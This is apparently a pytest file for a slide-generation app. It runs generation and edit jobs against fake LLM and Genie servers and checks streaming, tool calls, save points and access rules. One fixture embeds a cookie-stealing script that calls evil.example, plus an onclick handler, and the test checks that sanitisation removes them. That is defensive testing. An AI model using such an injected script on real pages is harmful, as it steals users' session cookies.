"""Generation and edit requests end to end: start, background job, read back (decisions 4-6).

Every test runs on SQLite and PostgreSQL against a freshly migrated and seeded database per
module. Requests are driven as the app drives them: `start_*` in one unit of work, a JobRunner
runs the job, services read the result back. The LLM is the offline engine or the real
`openai` client talking to a fake server on 127.0.0.1; Genie is the real databricks-sdk
against a fake Genie server. Faults, the session lock and the reaper, and the command line
are in test_generation_faults.py.
"""

from __future__ import annotations

import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select, update

from slidegen.config import Settings
from slidegen.db import migrate
from slidegen.db.database import Database
from slidegen.db.models import (
    ChatRequest,
    ConfigGenieSpace,
    SessionSlideDeck,
    UserSession,
)
from slidegen.deck import Deck, Slide
from slidegen.errors import ConflictError, NotFoundError, PermissionDeniedError
from slidegen.identity import User
from slidegen.schemas.decks import MessageOut, SessionDetail
from slidegen.services.decks import store as decks
from slidegen.services.decks.store import slide_title
from slidegen.services.generation import chat_requests as requests
from slidegen.services.generation.chat_requests import RequestHandle
from slidegen.services.jobs.pool import JobRunner
from slidegen.services.seed import seed_database
from slidegen.tools.base import REMINDER
from slidegen.tracing import exporter
from tests.conftest import DatabaseFactory
from tests.factories import make_profile, make_session
from tests.fakes.genie_server import FakeGenieServer, QueryAnswer
from tests.fakes.openai_server import FakeOpenAIServer, Reply, ToolCall

ALICE = User(name="alice@example.com", display_name="Alice")
BOB = User(name="bob@example.com", display_name="Bob")
MODEL = "gpt-fake"
API_KEY = "sk-test-generation-key"
BARE_PROFILE = "bare"  # no data sources and no Genie spaces: the model gets no tools
JOB_WAIT_S = 30
# Traces are not under test here, and exporting them to a real store takes about a second
# each in the background (and, the first time, migrates MLflow's tables through Alembic's
# process-global context, which collides with our own migrations). MLflow rejects this URI at
# once, so the exporter logs a warning and the deck is unaffected.
UNUSABLE_MLFLOW = "unusable-scheme://no-mlflow-in-these-tests"


@dataclass
class Workspace:
    """A migrated, seeded database of one backend and the settings that reach it."""

    backend: str
    url: str
    db: Database
    base: dict[str, Any]

    @property
    def settings(self) -> Settings:
        """Settings of a laptop without a workspace: the offline engine."""
        return Settings(**self.base)

    def settings_with(self, **overrides: Any) -> Settings:
        """Settings with some variables changed."""
        return Settings(**(self.base | overrides))


@dataclass
class FakeLLM:
    """The fake OpenAI-compatible server and the environment that points the app at it."""

    server: FakeOpenAIServer
    env: dict[str, str]
    settings: Settings


@pytest.fixture(scope="module", name="ws")
def workspace_fixture(backend: str, databases: DatabaseFactory) -> Iterator[Workspace]:
    """A fresh database for this module: migrated, seeded, plus a profile without tools."""
    url = databases.url(backend)
    # Every variable the app reads is given, so the developer's environment cannot leak in.
    base: dict[str, Any] = {
        "DATABASE_URL": url,
        "SLIDEGEN_USER": ALICE.name,
        "MLFLOW_TRACKING_URI": UNUSABLE_MLFLOW,
        "SLIDEGEN_LLM_PROVIDER": None,
        "SLIDEGEN_LLM_BASE_URL": None,
        "SLIDEGEN_LLM_API_KEY": None,
        "SLIDEGEN_LLM_MODEL": None,
        "DATABRICKS_HOST": None,
        "DATABRICKS_TOKEN": None,
        "DATABRICKS_CLIENT_ID": None,
        "DATABRICKS_CLIENT_SECRET": None,
        "DATABRICKS_APP_NAME": None,
    }
    workspace = Workspace(backend, url, Database(Settings(**base)), base)
    migrate.upgrade(workspace.db.engine)
    with workspace.db.scope() as session:
        seed_database(session, settings=workspace.settings)
        session.add(make_profile(BARE_PROFILE))
    yield workspace
    exporter().wait(30)  # nothing of this module may still run when the next one migrates
    workspace.db.dispose()


@pytest.fixture(name="llm")
def fake_llm_fixture(ws: Workspace) -> Iterator[FakeLLM]:
    """A scripted model behind the real openai client (SLIDEGEN_LLM_* point at it)."""
    with FakeOpenAIServer() as server:
        env = {
            "SLIDEGEN_LLM_PROVIDER": "openai",
            "SLIDEGEN_LLM_BASE_URL": server.openai_base_url,
            "SLIDEGEN_LLM_MODEL": MODEL,
            "SLIDEGEN_LLM_API_KEY": API_KEY,
        }
        yield FakeLLM(server, env, ws.settings_with(**env))


# -- helpers shared with test_generation_faults.py ---------------------------------------------


def slide_html(number: int, body: str = "") -> str:
    """A slide in the slide contract; without `body` every slide has the same length."""
    heading = f"<h1>Slide {number:02d}</h1><p>Point {number:02d}</p>"
    return f'<section class="slide">{heading}{body}</section>'


SLIDE_CHARS = len(slide_html(1))


def deck_text(count: int) -> str:
    """What a model writes for a deck of `count` equal-length slides."""
    return "".join(slide_html(n) for n in range(1, count + 1))


def start_generation(ws: Workspace, user: User = ALICE, **options: Any) -> RequestHandle:
    """Queue a generation in its own unit of work, as a page or the CLI does."""
    options.setdefault("prompt", "Quarterly review")
    with ws.db.scope() as session:
        return requests.start_generation(session, user, **options)


def start_edit(ws: Workspace, user: User = ALICE, **options: Any) -> RequestHandle:
    """Queue an edit in its own unit of work."""
    with ws.db.scope() as session:
        return requests.start_edit(session, user, **options)


def run_job(ws: Workspace, handle: RequestHandle, settings: Settings | None = None) -> ChatRequest:
    """Run the request on a JobRunner until it ends; return its chat_requests row."""
    runner = JobRunner(ws.db, settings or ws.settings, max_workers=1)
    try:
        runner.submit(handle.request_id).result(timeout=JOB_WAIT_S)
    finally:
        runner.shutdown()
    return request_row(ws, handle.request_id)


def generate(ws: Workspace, settings: Settings | None = None, **options: Any) -> RequestHandle:
    """Start a generation and run it to its end."""
    handle = start_generation(ws, **options)
    run_job(ws, handle, settings)
    return handle


def request_row(ws: Workspace, request_id: str) -> ChatRequest:
    with ws.db.scope() as session:
        return session.scalar(select(ChatRequest).where(ChatRequest.request_id == request_id))


def session_row(ws: Workspace, session_id: str) -> UserSession:
    with ws.db.scope() as session:
        return session.scalar(select(UserSession).where(UserSession.session_id == session_id))


def show(ws: Workspace, session_id: str, user: User = ALICE) -> SessionDetail:
    with ws.db.scope() as session:
        return decks.show_session(session, user, session_id=session_id)


def messages(ws: Workspace, session_id: str, user: User = ALICE) -> list[MessageOut]:
    with ws.db.scope() as session:
        return decks.list_messages(session, user, session_id=session_id)


def stored_slide_count(ws: Workspace, session_id: str) -> int:
    with ws.db.scope() as session:
        count = session.scalar(
            select(SessionSlideDeck.slide_count)
            .join(UserSession, UserSession.id == SessionSlideDeck.session_id)
            .where(UserSession.session_id == session_id)
        )
    return count or 0


def assert_unlocked(ws: Workspace, session_id: str) -> None:
    row = session_row(ws, session_id)
    assert (row.is_processing, row.processing_started_at) == (False, None)


def titles(detail: SessionDetail) -> list[str]:
    return [slide_title(slide.html) for slide in detail.slides]


def wait_until(condition: Callable[[], bool], timeout: float = 10.0) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, "timed out waiting for the job"
        time.sleep(0.02)


def chat_messages(server: FakeOpenAIServer, call: int) -> list[dict[str, Any]]:
    """The messages the model received in its `call`-th (0-based) chat request."""
    return server.chat_requests[call].body["messages"]


# -- the offline engine, end to end ------------------------------------------------------------


def test_offline_generation_stores_a_sanitised_deck_with_charts_tools_and_a_save_point(
    ws: Workspace,
) -> None:
    prompt = "Cloud cost review: monthly trend, SKU mix and next steps"
    handle = generate(ws, prompt=prompt)

    request = request_row(ws, handle.request_id)
    detail = show(ws, handle.session_id)
    count = len(detail.slides)
    assert (request.status, request.error_message, request.progress_message) == (
        "completed",
        None,
        "Done",
    )
    assert (request.result_json["slide_count"], request.result_json["description"]) == (
        count,
        f"Generated {count} slides",
    )
    assert request.prompt_tokens > 1000 and request.completion_tokens > 500
    assert count >= 5
    assert detail.title == "Cloud cost review"  # the request's subject
    for slide in detail.slides:
        assert slide.html.startswith('<section class="slide')
        assert "<script" not in slide.html.lower()
        assert len(slide.slide_id) == 10 and slide.slide_id.startswith("s-")
    charts = [c.type for s in detail.slides for c in s.charts]
    assert charts == ["column", "stacked", "bar"]  # totals, the trend by SKU, the SKU ranking
    monthly = next(s for s in detail.slides if s.charts and s.charts[0].type == "stacked")
    assert monthly.charts[0].categories[0] == "Nov 2025" and len(monthly.charts[0].categories) == 12
    assert f'data-chart-id="{monthly.charts[0].chart_id}"' in monthly.html
    assert [(v.version_number, v.description, v.slide_count) for v in detail.versions] == [
        (1, f"Generated {count} slides", count)
    ]
    assert detail.last_request.status == "completed"

    chat = messages(ws, handle.session_id)
    assert (chat[0].role, chat[0].content, chat[0].metadata) == (
        "user",
        prompt,
        {"mode": "generate"},
    )
    tools = [m for m in chat if m.role == "tool"]
    rows = [(m.message_type, m.metadata["tool"], m.metadata["row_count"]) for m in tools]
    # monthly, by SKU and month, by workspace and month, quarterly, by workspace and quarter,
    # GenAI by month, All-Purpose, anomalies, workspaces; then the two estimates (saving,
    # incident), each computed by the data source in a second round
    counts = (12, 63, 72, 5, 30, 9, 48, 35, 6, 1, 1)
    assert rows == [("tool_call", "sample_consumption", n) for n in counts]
    assert all(m.metadata["error"] is None for m in tools)
    assert (chat[-1].role, chat[-1].message_type, chat[-1].content) == (
        "assistant",
        "slide_update",
        f"Generated {count} slides",
    )
    assert_unlocked(ws, handle.session_id)


def test_offline_edits_change_only_the_selected_slides_and_restore_brings_a_deck_back(
    ws: Workspace,
) -> None:
    handle = generate(ws, prompt="Consumption review: spend, workloads and actions")
    first = show(ws, handle.session_id)
    ids = [s.slide_id for s in first.slides]
    sku = next(n for n, t in enumerate(titles(first), 1) if "accounts for" in t)

    edit = start_edit(
        ws,
        session_id=handle.session_id,
        instruction="make the chart a line chart",
        slide_numbers=[sku],
    )
    assert run_job(ws, edit).status == "completed"
    edited = show(ws, handle.session_id)
    assert [s.slide_id for s in edited.slides] == ids
    assert [c.type for c in edited.slides[sku - 1].charts] == ["line"]
    assert edited.slides[sku - 1].charts[0].categories == first.slides[sku - 1].charts[0].categories
    assert slide_title(edited.slides[sku - 1].html) == titles(first)[sku - 1]
    unchanged = [n for n in range(len(ids)) if n != sku - 1]
    assert [edited.slides[n] for n in unchanged] == [first.slides[n] for n in unchanged]
    assert (edited.versions[0].version_number, edited.versions[0].description) == (
        2,
        f"Edited slide {sku}",
    )
    assert edited.version > first.version

    delete = start_edit(
        ws, session_id=handle.session_id, instruction="delete this slide", slide_ids=[ids[1]]
    )
    assert run_job(ws, delete).status == "completed"
    deleted = show(ws, handle.session_id)
    assert [s.slide_id for s in deleted.slides] == [ids[0], *ids[2:]]
    assert deleted.versions[0].description == "Deleted slide 2"

    insert = start_edit(
        ws,
        session_id=handle.session_id,
        instruction="add a slide about prod-ml",
        slide_numbers=[1],
    )
    assert run_job(ws, insert).status == "completed"
    inserted = show(ws, handle.session_id)
    assert [titles(inserted)[0], titles(inserted)[2]] == [titles(first)[0], titles(first)[2]]
    assert titles(inserted)[1].startswith("prod-ml: $")
    assert inserted.slides[1].slide_id not in ids
    assert [s.slide_id for s in inserted.slides[2:]] == ids[2:]
    assert inserted.versions[0].description == "Inserted slide 2"

    with ws.db.scope() as session:
        restored = decks.restore_save_point(
            session, ALICE, session_id=handle.session_id, version_number=1
        )
    assert restored.slides == first.slides
    assert [(v.version_number, v.description) for v in restored.versions] == [
        (5, "Restored save point 1"),
        (4, "Inserted slide 2"),
        (3, "Deleted slide 2"),
        (2, f"Edited slide {sku}"),
        (1, f"Generated {len(ids)} slides"),
    ]
    assert show(ws, handle.session_id).slides == first.slides
    chat = messages(ws, handle.session_id)
    assert [m.content for m in chat if m.message_type == "user_input"] == [
        "Consumption review: spend, workloads and actions",
        "make the chart a line chart",
        "delete this slide",
        "add a slide about prod-ml",
    ]
    edits = [m.metadata for m in chat if m.message_type == "user_input"][1:3]
    assert edits == [
        {"mode": "edit", "slide_ids": [ids[sku - 1]]},
        {"mode": "edit", "slide_ids": [ids[1]]},
    ]
    assert_unlocked(ws, handle.session_id)


# -- the real openai client against a fake server ----------------------------------------------


def test_streamed_slides_are_stored_one_by_one_before_the_stream_ends(
    ws: Workspace, llm: FakeLLM
) -> None:
    gate = threading.Event()  # the fake holds the stream after its first text chunk
    llm.server.enqueue(Reply.text(deck_text(3), chunk_size=SLIDE_CHARS, gate=gate, usage=(321, 54)))
    handle = start_generation(ws, prompt="Quarterly review", profile_name=BARE_PROFILE)
    runner = JobRunner(ws.db, llm.settings, max_workers=1)
    try:
        future = runner.submit(handle.request_id)
        try:
            wait_until(lambda: stored_slide_count(ws, handle.session_id) >= 1)
            running = request_row(ws, handle.request_id)
            locked = session_row(ws, handle.session_id).is_processing
            partial = show(ws, handle.session_id)
            # The live job of this (or another) replica is not reaped.
            with ws.db.scope() as session:
                requests.reap_stale_requests(session)
            still = request_row(ws, handle.request_id)
        finally:
            gate.set()
        future.result(timeout=JOB_WAIT_S)
    finally:
        runner.shutdown()

    assert (running.status, running.completed_at, locked) == ("running", None, True)
    assert titles(partial) == ["Slide 01"]
    assert session_row(ws, handle.session_id).is_processing is False
    assert (still.status, still.error_message) == ("running", None)
    final = show(ws, handle.session_id)
    assert titles(final) == ["Slide 01", "Slide 02", "Slide 03"]
    assert final.slides[0].slide_id == partial.slides[0].slide_id
    assert final.version == 4  # one store per streamed slide, then the finished deck
    assert [(v.version_number, v.description) for v in final.versions] == [
        (1, "Generated 3 slides")
    ]
    done = request_row(ws, handle.request_id)
    assert (done.status, done.prompt_tokens, done.completion_tokens) == ("completed", 321, 54)
    (call,) = llm.server.chat_requests
    assert call.authorization == f"Bearer {API_KEY}"
    assert (call.body["model"], call.body["stream"], "tools" in call.body) == (MODEL, True, False)
    system, user = call.body["messages"]
    assert system["role"] == "system" and "Slide contract" in system["content"]
    assert user == {"role": "user", "content": "Quarterly review"}


SKU_SQL = (
    "SELECT sku, ROUND(SUM(cost_usd), 0) AS cost_usd FROM workspace_consumption "
    "GROUP BY sku ORDER BY 2 DESC"
)
DAYS_SQL = "SELECT COUNT(DISTINCT usage_date) AS days FROM workspace_consumption"
CHART_SLIDE = (
    '<section class="slide"><h1>Cost by SKU</h1>'
    '<figure class="chart" data-chart=\'{"type": "bar", "categories": ["Jobs", "SQL"], '
    '"series": [{"name": "cost", "values": [1, 2]}]}\'></figure>'
    '<script>fetch("https://evil.example/?" + document.cookie)</script>'
    '<p onclick="steal()">Jobs dominate</p><aside class="notes">Lead with jobs.</aside></section>'
)


def test_parallel_and_malformed_tool_calls_get_their_results_as_untrusted_data(
    ws: Workspace, llm: FakeLLM
) -> None:
    llm.server.enqueue(
        Reply.tool_calls(
            [
                ToolCall("sample_consumption", {"query": SKU_SQL}, id="call_sku"),
                ToolCall("sample_consumption", {"query": DAYS_SQL}, id="call_days"),
                ToolCall("sample_consumption", '{"query": "SELECT 1', id="call_bad"),
            ],
            usage=(100, 10),
        ),
        Reply.text(slide_html(1) + CHART_SLIDE, usage=(200, 20)),
    )
    handle = start_generation(ws, prompt="Where does the money go?")  # the default profile
    request = run_job(ws, handle, llm.settings)

    assert (request.status, request.error_message) == ("completed", None)
    assert (request.prompt_tokens, request.completion_tokens) == (300, 30)
    first_tools = llm.server.chat_requests[0].body["tools"]
    assert [t["function"]["name"] for t in first_tools] == ["sample_consumption"]
    second = chat_messages(llm.server, 1)
    assistant = second[2]
    assert [c["id"] for c in assistant["tool_calls"]] == ["call_sku", "call_days", "call_bad"]
    assert assistant["tool_calls"][2]["function"]["arguments"] == "{}"
    results = second[3:]
    assert [(m["role"], m["tool_call_id"]) for m in results] == [
        ("tool", "call_sku"),
        ("tool", "call_days"),
        ("tool", "call_bad"),
    ]
    sku, days, bad = (m["content"] for m in results)
    assert sku.startswith('<untrusted-data source="SQL sample_consumption">\n| sku | cost_usd |')
    assert sku.endswith(f"</untrusted-data>\n{REMINDER}")
    assert len([line for line in sku.splitlines() if line.startswith("| ")]) == 7
    assert "| days |\n|---|\n| 365 |\n</untrusted-data>" in days
    assert bad.startswith("Tool error: Invalid arguments: arguments are not valid JSON")

    tool_messages = [m for m in messages(ws, handle.session_id) if m.role == "tool"]
    assert [(m.metadata.get("row_count"), m.metadata["error"] is None) for m in tool_messages] == [
        (6, True),
        (1, True),
        (None, False),
    ]
    assert tool_messages[2].content.startswith("sample_consumption failed: Invalid arguments")
    chart = show(ws, handle.session_id).slides[1]
    assert "<script" not in chart.html and "onclick" not in chart.html
    assert "evil.example" not in chart.html
    assert chart.notes == "Lead with jobs."
    assert [(c.type, c.categories) for c in chart.charts] == [("bar", ["Jobs", "SQL"])]
    assert_unlocked(ws, handle.session_id)


# -- optimistic locking and save points --------------------------------------------------------


def test_storing_over_a_stale_version_is_a_conflict_and_changes_nothing(ws: Workspace) -> None:
    handle = generate(ws)
    before = show(ws, handle.session_id)
    changed = Deck(title="Someone else's", slides=[Slide(html=slide_html(9))])
    with pytest.raises(ConflictError, match="changed by someone else"), ws.db.scope() as session:
        row = session.scalar(select(UserSession).where(UserSession.session_id == handle.session_id))
        decks.store_deck(session, row, changed, user=ALICE, expected_version=before.version - 1)
    assert show(ws, handle.session_id) == before

    with ws.db.scope() as session:
        row = session.scalar(select(UserSession).where(UserSession.session_id == handle.session_id))
        new = decks.store_deck(session, row, changed, user=ALICE, expected_version=before.version)
    assert new == before.version + 1
    assert titles(show(ws, handle.session_id)) == ["Slide 09"]


def test_save_points_keep_the_newest_forty_and_a_missing_one_is_not_found(ws: Workspace) -> None:
    with ws.db.scope() as session:  # a deck with no request running (restores would wait)
        row = make_session(ALICE.name)
        session.add(row)
        session.flush()
        handle = RequestHandle(session_id=row.session_id, request_id="none")
        for number in range(1, 46):
            deck = Deck(slides=[Slide(html=slide_html(number))])
            decks.create_save_point(session, row, deck, user=ALICE, description=f"Point {number}")
    detail = show(ws, handle.session_id)
    assert [v.version_number for v in detail.versions] == list(range(45, 5, -1))
    assert detail.versions[-1].description == "Point 6"

    for missing in (5, 99):
        with (
            pytest.raises(NotFoundError, match=f"Save point {missing} does not exist"),
            ws.db.scope() as session,
        ):
            decks.restore_save_point(
                session, ALICE, session_id=handle.session_id, version_number=missing
            )
    with ws.db.scope() as session:
        restored = decks.restore_save_point(
            session, ALICE, session_id=handle.session_id, version_number=45
        )
    assert titles(restored) == ["Slide 45"]
    assert [v.version_number for v in restored.versions] == list(range(46, 6, -1))


# -- who may read and edit ---------------------------------------------------------------------


def test_private_sessions_are_invisible_and_workspace_sessions_read_only_to_others(
    ws: Workspace,
) -> None:
    handle = generate(ws, prompt="Alice's private plan")
    mine = show(ws, handle.session_id)
    ids = [s.slide_id for s in mine.slides]

    def refused(action: Callable[[], object], verb: str) -> None:
        error = NotFoundError if verb == "open" else PermissionDeniedError
        pattern = "does not exist or you don't have access to it" if verb == "open" else verb
        with pytest.raises(error, match=f"{pattern}"):
            action()

    refused(lambda: show(ws, handle.session_id, BOB), "open")
    refused(lambda: messages(ws, handle.session_id, BOB), "open")
    refused(lambda: start_edit(ws, BOB, session_id=handle.session_id, instruction="x"), "open")
    refused(lambda: start_generation(ws, BOB, session_id=handle.session_id), "open")

    with ws.db.scope() as session:
        session.execute(
            update(UserSession)
            .where(UserSession.session_id == handle.session_id)
            .values(visibility="workspace")
        )
    assert show(ws, handle.session_id, BOB).slides == mine.slides
    assert messages(ws, handle.session_id, BOB)[0].content == "Alice's private plan"
    refused(
        lambda: start_edit(
            ws, BOB, session_id=handle.session_id, instruction="delete it", slide_ids=ids[:1]
        ),
        "edit",
    )
    refused(lambda: start_generation(ws, BOB, session_id=handle.session_id), "edit")

    def bob_restores() -> None:
        with ws.db.scope() as session:
            decks.restore_save_point(session, BOB, session_id=handle.session_id, version_number=1)

    refused(bob_restores, "edit")
    assert show(ws, handle.session_id) == mine
    assert_unlocked(ws, handle.session_id)


# -- Genie conversations continue across requests ----------------------------------------------

GENIE_TOKEN = "dapi-genie-test"
USAGE = QueryAnswer(
    columns=[("month", "STRING"), ("dbus", "DOUBLE")],
    rows=[["2026-09", 1200.5], ["2026-10", 1300.25], ["2026-11", 1400.0]],
    sql="SELECT month, sum(dbus) FROM usage GROUP BY ALL",
    description="DBUs per month",
)


def _isolate_databricks_env(monkeypatch: pytest.MonkeyPatch, home: Path) -> None:
    """Hide the developer's Databricks credentials and ~/.databrickscfg from the SDK."""
    for name in (
        "DATABRICKS_HOST",
        "DATABRICKS_TOKEN",
        "DATABRICKS_CLIENT_ID",
        "DATABRICKS_CLIENT_SECRET",
        "DATABRICKS_AUTH_TYPE",
        "DATABRICKS_CONFIG_PROFILE",
        "DATABRICKS_CONFIG_FILE",
    ):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HOME", str(home))


def _genie_profile(ws: Workspace, name: str) -> None:
    with ws.db.scope() as session:
        profile = make_profile(name)
        profile.genie_spaces.append(ConfigGenieSpace(space_id="space-usage", space_name="Usage"))
        session.add(profile)


def _two_genie_requests(
    ws: Workspace, llm: FakeLLM, genie: FakeGenieServer, profile: str
) -> tuple[RequestHandle, dict[str, str]]:
    """Run two requests in one session, each calling the Genie tool once."""
    settings = ws.settings_with(**llm.env, DATABRICKS_HOST=genie.url, DATABRICKS_TOKEN=GENIE_TOKEN)
    for question in ("DBUs per month?", "And only November?"):
        llm.server.enqueue(
            Reply.tool_calls([ToolCall("query_genie_usage", {"question": question})]),
            Reply.text(deck_text(2)),
        )
    first = start_generation(ws, prompt="Usage review", profile_name=profile)
    assert run_job(ws, first, settings).status == "completed"
    after_first = (session_row(ws, first.session_id).agent_config or {}).get("genie_conversations")
    second = start_generation(ws, session_id=first.session_id, prompt="Focus on November")
    assert run_job(ws, second, settings).status == "completed"
    return first, after_first


def _assert_one_conversation(
    ws: Workspace,
    llm: FakeLLM,
    genie: FakeGenieServer,
    first: RequestHandle,
    after_first: dict[str, str],
) -> None:
    """Both questions went to one Genie conversation, persisted in the session's config."""
    posts = [r for r in genie.genie_requests() if r.method == "POST"]
    start_path = "/api/2.0/genie/spaces/space-usage/start-conversation"
    assert posts[0].path == start_path
    conversation = after_first["space-usage"]
    assert [(r.path, r.body) for r in posts] == [
        (start_path, {"content": "DBUs per month?"}),
        (
            f"/api/2.0/genie/spaces/space-usage/conversations/{conversation}/messages",
            {"content": "And only November?"},
        ),
    ]
    config = session_row(ws, first.session_id).agent_config
    assert config["genie_conversations"] == {"space-usage": conversation}
    genie_result = chat_messages(llm.server, 1)[-1]["content"]
    assert genie_result.startswith('<untrusted-data source="Genie space Usage')
    assert "| 2026-11 | 1400 |" in genie_result
    tools = [m for m in messages(ws, first.session_id) if m.role == "tool"]
    assert [(m.metadata["tool"], m.metadata["row_count"]) for m in tools] == [
        ("query_genie_usage", 3),
        ("query_genie_usage", 3),
    ]


def test_genie_conversation_continues_across_requests_of_a_session(
    ws: Workspace, llm: FakeLLM, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    _isolate_databricks_env(monkeypatch, tmp_path)
    # The databricks-sdk reads its credentials from the environment, as in a Databricks App.
    with FakeGenieServer(token=GENIE_TOKEN) as genie:
        genie.set_space("space-usage", USAGE)
        monkeypatch.setenv("DATABRICKS_HOST", genie.url)
        monkeypatch.setenv("DATABRICKS_TOKEN", GENIE_TOKEN)
        _genie_profile(ws, "genie-env")
        first, after_first = _two_genie_requests(ws, llm, genie, "genie-env")
        _assert_one_conversation(ws, llm, genie, first, after_first)


def test_genie_uses_the_token_from_settings(
    ws: Workspace, llm: FakeLLM, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    _isolate_databricks_env(monkeypatch, tmp_path)
    with FakeGenieServer(token=GENIE_TOKEN) as genie:
        genie.set_space("space-usage", USAGE)
        _genie_profile(ws, "genie-settings")
        first, after_first = _two_genie_requests(ws, llm, genie, "genie-settings")
        tools = [m for m in messages(ws, first.session_id) if m.role == "tool"]
        assert tools[0].metadata["error"] is None, tools[0].metadata["error"]
        _assert_one_conversation(ws, llm, genie, first, after_first)
